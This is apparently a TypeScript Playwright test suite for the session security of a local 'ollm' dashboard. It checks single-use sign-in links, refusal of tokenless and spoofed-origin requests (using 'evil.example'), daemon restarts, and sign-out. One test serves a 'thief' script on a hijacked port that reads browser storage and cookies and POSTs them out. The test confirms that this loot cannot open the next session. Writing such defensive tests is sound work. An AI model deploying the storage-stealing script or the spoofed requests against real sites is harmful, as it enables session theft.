import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { createServer, request } from "node:http";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { entryOf, openTab, signIn } from "../test/support/page-session.ts";
import { watchedPage } from "./chromium.ts";
import { assertHarmless, dashboardLink, settled, withDashboard } from "./dashboard.ts";
import { type Check, daemonPid, otherModel, realModel } from "./world.ts";

interface Answer {
  readonly status: number;
  readonly body: string;
}

/** A request with headers that a page can't set, such as those of a browser under another name. At most 64 KB are read. */
function ask(
  url: string,
  headers: Readonly<Record<string, string>>,
  body?: unknown,
  method = body === undefined ? "GET" : "POST",
): Promise<Answer> {
  return new Promise((resolve, reject) => {
    const sent = request(url, { method, headers, agent: false, timeout: 5_000 }, (response) => {
      let text = "";
      const end = () => resolve({ status: response.statusCode ?? 0, body: text });
      response.setEncoding("utf8").on("data", (part: string) => {
        text += part;
        // A stream would go on.
        if (text.length > 0 && response.headers["content-type"]?.includes("event-stream") === true) sent.destroy();
      });
      response.once("close", end);
    });
    sent.once("error", reject).once("timeout", () => sent.destroy(new Error(`${url} sent nothing`)));
    sent.end(body === undefined ? undefined : JSON.stringify(body));
  });
}

const json = { "content-type": "application/json" };

const link: Check = [
  "session: a link works once, and leaves nothing in the address or in cookies",
  async ({ world, browser }) => {
    const url = await dashboardLink(world);
    const { origin } = new URL(url);
    const context = await browser.newContext();
    try {
      const first = await watchedPage(context, origin);
      await first.page.goto(url);
      await first.page.getByRole("heading", { name: "Overview" }).waitFor();
      assert.equal(new URL(first.page.url()).hash.includes(new URL(url).hash.slice(1)), false, first.page.url());
      assert.deepEqual(await context.cookies(), []);
      await first.page.reload();
      await first.page.getByRole("heading", { name: "Overview" }).waitFor();
      assertHarmless(first);
      const second = await watchedPage(context, origin);
      await second.page.goto(url);
      await second.page.getByText("ollm dashboard", { exact: true }).waitFor();
      assert.equal(await second.page.getByRole("heading", { name: "Overview" }).count(), 0);
    } finally {
      await context.close();
    }
  },
];

const locked: Check = [
  "session: without its token nothing is served but the empty page",
  async ({ world }) => {
    const url = await dashboardLink(world);
    const { origin, hash } = new URL(url);
    const page = await ask(`${origin}/dashboard`, {});
    assert.equal(page.status, 200);
    for (const name of [otherModel, world.home]) assert.equal(page.body.includes(name), false, name);
    const call = { jsonrpc: "2.0", id: 1, method: "tools/call", params: { name: "system_status", arguments: {} } };
    const [id = "", code = ""] = hash.slice(1).split(".");
    const nonce = "0".repeat(32);
    const refused: Readonly<Record<string, Answer>> = {
      "stream without a token": await ask(`${origin}/dashboard/events`, {}),
      "stream with a wrong token": await ask(`${origin}/dashboard/events`, { authorization: "Bearer wrong" }),
      "stream with the link's code": await ask(`${origin}/dashboard/events`, { authorization: `Bearer ${code}` }),
      "stream with the token in the address": await ask(`${origin}/dashboard/events?token=wrong`, {}),
      "call without a token": await ask(`${origin}/mcp`, json, call),
      "wrong link": await ask(`${origin}/dashboard/session`, json, { by: "link", id: "0".repeat(16), nonce }),
      "no proof": await ask(`${origin}/dashboard/session`, json, { by: "link", id, nonce, proof: nonce }),
      "session for another site's page": await ask(
        `${origin}/dashboard/session`,
        { ...json, origin: "http://evil.example", "sec-fetch-site": "cross-site" },
        { by: "link", id, nonce },
      ),
      "page under another name": await ask(`${origin}/dashboard`, { host: "evil.example" }),
      "session under another name": await ask(
        `${origin}/dashboard/session`,
        { ...json, host: "evil.example" },
        { by: "link", id, nonce },
      ),
    };
    for (const [what, { status, body }] of Object.entries(refused)) {
      assert.ok([400, 401, 403].includes(status), `${what}: ${status} ${body}`);
      for (const name of [realModel, "availableBytes", "models"]) assert.equal(body.includes(name), false, what);
    }
    // None of that has used the link up, and what it gives opens the stream.
    const { bearer: token } = await signIn(url);
    const stream = await ask(`${origin}/dashboard/events`, { authorization: `Bearer ${token}` });
    assert.match(stream.body, /^event: |^data: /m);
    const home = await readFile(join(world.home, "run", "http-token"), "utf8");
    assert.equal(token.includes(home.trim()), false, "the page has the home's own token");
  },
];

const restart: Check = [
  "session: the page outlives a killed daemon, and is signed in to the next one",
  (scene) =>
    withDashboard(scene, async ({ page, show }) => {
      const { world } = scene;
      await page.getByText("Connected", { exact: true }).waitFor();
      const before = await daemonPid(world);
      process.kill(before, "SIGKILL");
      await page.getByText("The daemon has not answered").waitFor();
      await world.ollm("status");
      assert.notEqual(await daemonPid(world), before);
      await page.getByText("Connected", { exact: true }).waitFor({ timeout: 30_000 });
      await show("models");
      await page.getByRole("row", { name: realModel }).first().waitFor();
      await page.reload();
      await page.getByRole("heading", { name: "Models", exact: true }).waitFor();
      await settled(page);
    }),
];

/** A page that takes what a browser has kept for its address. */
const thief = `<script>
  const kept = JSON.stringify([{ ...sessionStorage }, { ...localStorage }, document.cookie]);
  fetch("/stolen", { method: "POST", body: kept }).then(() => (document.title = "stolen"));
</script>`;

const impostor: Check = [
  "session: after a kill, a program on the page's port gets nothing that opens the next daemon",
  (scene) =>
    withDashboard(scene, async ({ page, origin }) => {
      const { world } = scene;
      await page.getByText("Connected", { exact: true }).waitFor();
      const got: string[] = [];
      const server = createServer((asked, answer) => {
        let body = "";
        asked.setEncoding("utf8").on("data", (part: string) => (body += part));
        asked.once("end", () => {
          got.push(`${asked.method} ${asked.url} ${JSON.stringify(asked.headers)} ${body}`);
          const isPage = asked.url === "/dashboard" && asked.method === "GET";
          answer.setHeader("content-type", isPage ? "text/html" : "application/json");
          answer.end(isPage ? thief : '{"nonce":"00000000000000000000000000000000","proof":"00"}');
        });
      });
      process.kill(await daemonPid(world), "SIGKILL");
      try {
        // The system frees the port a moment after the kill.
        for (let tries = 0; !server.listening; tries++) {
          assert.ok(tries < 500, "the port is not free");
          await new Promise<void>((resolve) => {
            server.once("error", () => setTimeout(resolve, 10));
            server.listen(Number(new URL(origin).port), "127.0.0.1", resolve);
          });
        }
        await page.getByText("has not proved to be your ollm daemon").waitFor();
        assert.match(got.join("\n"), /POST \/dashboard\/session/);
        // What the user opens meanwhile asks it for nothing, either.
        await page.evaluate(() => (location.hash = "#/models"));
        await page.getByText("has not proved to be your ollm daemon").nth(1).waitFor();
        assert.doesNotMatch(got.join("\n"), /authorization|"proof"|\/events|\/mcp/);
        // The user reloads, and gets the program's own page, at the same origin.
        await page.reload();
        await page.waitForFunction(() => document.title === "stolen");
        const stolen = got.findLast((line) => line.startsWith("POST /stolen")) ?? "";
        const kept = /"ollm-session":"([^"]+)"/.exec(stolen)?.[1] ?? "";
        assert.notEqual(kept, "", stolen);
        const next = new URL(await dashboardLink(world));
        assert.notEqual(next.origin, origin, "ollm dashboard printed the port of the other program");
        for (const word of new Set(got.join("\n").match(/[\w.-]{12,}/g) ?? [])) {
          const { status } = await ask(`${next.origin}/dashboard/events`, { authorization: `Bearer ${word}` });
          assert.equal(status, 401, word);
        }
        const tab = openTab(next.origin, new Map([["ollm-session", kept]]));
        await tab.session.open("");
        assert.deepEqual(await entryOf(tab), { kind: "ended" });
        await withDashboard(scene, async (opened) => assert.equal(opened.origin, next.origin));
      } finally {
        await new Promise((resolve) => {
          server.close(resolve);
          server.closeAllConnections();
        });
      }
    }),
];

const signedOut: Check = [
  "session: signing out ends it in every tab, and no reload brings it back",
  (scene) =>
    withDashboard(scene, async ({ page, context, origin, show }) => {
      await page.getByText("Connected", { exact: true }).waitFor();
      const kept = await page.evaluate(() => sessionStorage.getItem("ollm-session") ?? "");
      await context.addInitScript((value) => sessionStorage.setItem("ollm-session", value), kept);
      const other = await context.newPage();
      await other.goto(`${origin}/dashboard`);
      await other.getByText("Connected", { exact: true }).waitFor();
      await show("browser");
      await page.getByRole("button", { name: "Sign out" }).click();
      await page.getByText("Signed out.").waitFor();
      assert.equal(await page.evaluate(() => sessionStorage.length), 0);
      await other.getByText("The session has ended").waitFor();
      assert.equal((await ask(`${origin}/dashboard/events`, { authorization: `Bearer ${kept}` })).status, 401);
      await page.reload();
      await page.getByText("The session has ended").waitFor();
    }),
];

const tabs: Check = [
  "session: eight tabs of one browser, which has six connections, are all served",
  (scene) =>
    withDashboard(scene, async ({ context, origin, page: first }) => {
      // Headless browsers take every tab as seen.
      const show = (page: Page, isShown: boolean) =>
        page.evaluate((hidden) => {
          Object.defineProperty(document, "hidden", { value: hidden, configurable: true });
          document.dispatchEvent(new Event("visibilitychange"));
        }, !isShown);
      const connected = (page: Page) => page.getByText("Connected", { exact: true }).waitFor();
      const token = await first.evaluate(() => sessionStorage.getItem("ollm-session") ?? "");
      await context.addInitScript((value) => sessionStorage.setItem("ollm-session", value), token);
      let seen = first;
      for (let count = 2; count <= 8; count++) {
        await connected(seen);
        await show(seen, false);
        seen = await context.newPage();
        await seen.goto(`${origin}/dashboard`);
      }
      await connected(seen);
      await show(seen, false);
      await show(first, true);
      await connected(first);
      await first.evaluate(() => (location.hash = "#/models"));
      await first.getByRole("row", { name: realModel }).first().waitFor();
    }),
];

const installed: Check = [
  "session: a browser can install the page as an app of one window, and a later link opens there",
  (scene) =>
    withDashboard(scene, async ({ page, context, origin }) => {
      const devtools = await context.newCDPSession(page);
      const { url, errors, data = "" } = await devtools.send("Page.getAppManifest");
      assert.equal(url, `${origin}/dashboard/app.webmanifest`);
      assert.deepEqual(errors, []);
      assert.equal((JSON.parse(data) as { readonly display: string }).display, "standalone");
      const { installabilityErrors } = await devtools.send("Page.getInstallabilityErrors");
      // These pages are of a private window, where nothing is installed.
      const others = installabilityErrors.filter(({ errorId }) => errorId !== "in-incognito");
      assert.deepEqual(others, []);
      // As the window is navigated that is there.
      await page.evaluate((address) => location.assign(address), await dashboardLink(scene.world));
      await page.getByText("Connected", { exact: true }).waitFor();
      assert.equal(new URL(page.url()).hash, "");
    }),
];

export const sessionChecks: readonly Check[] = [link, locked, restart, impostor, signedOut, tabs, installed];
